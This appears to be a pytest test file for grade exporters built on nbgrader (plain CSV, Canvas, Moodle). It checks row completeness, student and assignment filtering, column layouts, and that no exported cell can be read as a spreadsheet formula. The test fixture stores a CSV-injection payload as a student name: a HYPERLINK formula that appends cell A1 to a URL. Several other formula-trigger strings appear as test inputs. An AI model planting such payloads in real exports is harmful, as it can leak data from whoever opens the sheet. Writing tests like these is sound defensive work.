"""Grades as tables: complete, well-formed, and without formulas."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from nbgrader.api import Gradebook

from helpers.grading.exporting import CanvasExport, CsvExport, MoodleExport, text_cell

# How nbgrader uses SQLAlchemy.
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")

EVIL = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"see")'


@pytest.fixture
def gradebook(tmp_path: Path, empty_gradebook: Path) -> Iterator[Any]:
    """Two assignments; Ada did one, Alan was late with it, Mallory's broke, Grace did nothing."""
    path = shutil.copy(empty_gradebook, tmp_path)
    with Gradebook(f"sqlite:///{path}") as book:
        for name in ("01_first", "02_second"):
            book.add_assignment(name)
            book.add_notebook(name, name)
            book.add_grade_cell("item", name, name, max_score=10, cell_type="code")
        book.add_student("ada", first_name="Ada", last_name="Lovelace, Countess", lms_user_id="17")
        book.add_student("alan", first_name="Alan", last_name="Turing", email="alan@example.org")
        book.add_student("grace")
        book.add_student("mallory", first_name=EVIL, last_name="\t+1", email="@SUM(1)")
        for student, score in (("ada", 7.256), ("alan", 5.0), ("mallory", None)):
            submission = book.add_submission("01_first", student)
            submission.notebooks[0].grades[0].auto_score = score
            submission.notebooks[0].late_submission_penalty = 2.0 if student == "alan" else None
        book.db.commit()
        yield book


def exported(plugin: Any, gradebook: Any, path: Path) -> list[list[str]]:
    plugin.to = str(path)
    plugin.export(gradebook)
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_the_table_has_a_line_for_each_student_and_assignment(gradebook: Any, tmp_path: Path) -> None:
    head, *rows = exported(CsvExport(), gradebook, tmp_path / "grades.csv")
    lines = [dict(zip(head, row, strict=True)) for row in rows]
    assert len(lines) == 8
    alan = next(line for line in lines if (line["student_id"], line["assignment"]) == ("alan", "01_first"))
    assert (alan["raw_score"], alan["late_submission_penalty"], alan["score"]) == ("5.0", "2.0", "3.0")
    assert {line["max_score"] for line in lines} == {"10.0"}
    assert lines[0]["last_name"] == "Lovelace, Countess"


def test_only_those_named_are_exported(gradebook: Any, tmp_path: Path) -> None:
    plugin = CsvExport(student=["ada"], assignment=["02_second"])
    _, *rows = exported(plugin, gradebook, tmp_path / "grades.csv")
    assert [(row[0], row[3]) for row in rows] == [("02_second", "ada")]


@pytest.mark.parametrize("plugin", [CsvExport, CanvasExport, MoodleExport])
def test_no_cell_is_a_formula(plugin: Any, gradebook: Any, tmp_path: Path) -> None:
    rows = exported(plugin(), gradebook, tmp_path / "grades.csv")
    cells = [cell for row in rows for cell in row]
    assert any(EVIL in cell for cell in cells)
    assert not [cell for cell in cells if cell.strip()[:1] in ("=", "+", "-", "@")]


def test_canvas_gets_ids_titles_and_empty_cells_where_there_is_no_grade(
    gradebook: Any, tmp_path: Path
) -> None:
    plugin = CanvasExport(titles={"01_first": "Week 1 (123)"})
    head, possible, *rows = exported(plugin, gradebook, tmp_path / "canvas.csv")
    assert head == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 1 (123)", "02_second"]
    assert possible == ["    Points Possible", "", "", "", "", "10.0", "10.0"]
    assert rows[0] == ["Lovelace, Countess, Ada", "17", "", "ada", "", "7.26", ""]
    assert {row[3]: row[5] for row in rows} == {"ada": "7.26", "alan": "3.0", "grace": "", "mallory": ""}
    assert next(row for row in rows if row[3] == "grace")[0] == "grace"


def test_moodle_gets_a_column_for_each_assignment(gradebook: Any, tmp_path: Path) -> None:
    plugin = MoodleExport(assignment=["01_first"])
    head, *rows = exported(plugin, gradebook, tmp_path / "moodle.csv")
    assert head == ["Username", "First name", "Last name", "Email address", "Assignment: 01_first"]
    assert rows[1] == ["alan", "Alan", "Turing", "alan@example.org", "3.0"]


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@A1", "\t=1", " =1", "\n=1", "\u200b=1", "＝1", "|x", "%x"]
)
def test_what_a_spreadsheet_could_take_for_a_formula_is_text(text: str) -> None:
    assert text_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "cell"), [("ada", "ada"), ("a-b", "a-b"), (None, ""), (-1.5, "-1.5"), (0, "0"), ("", "")]
)
def test_other_cells_stay_as_they_are(value: object, cell: str) -> None:
    assert text_cell(value) == cell
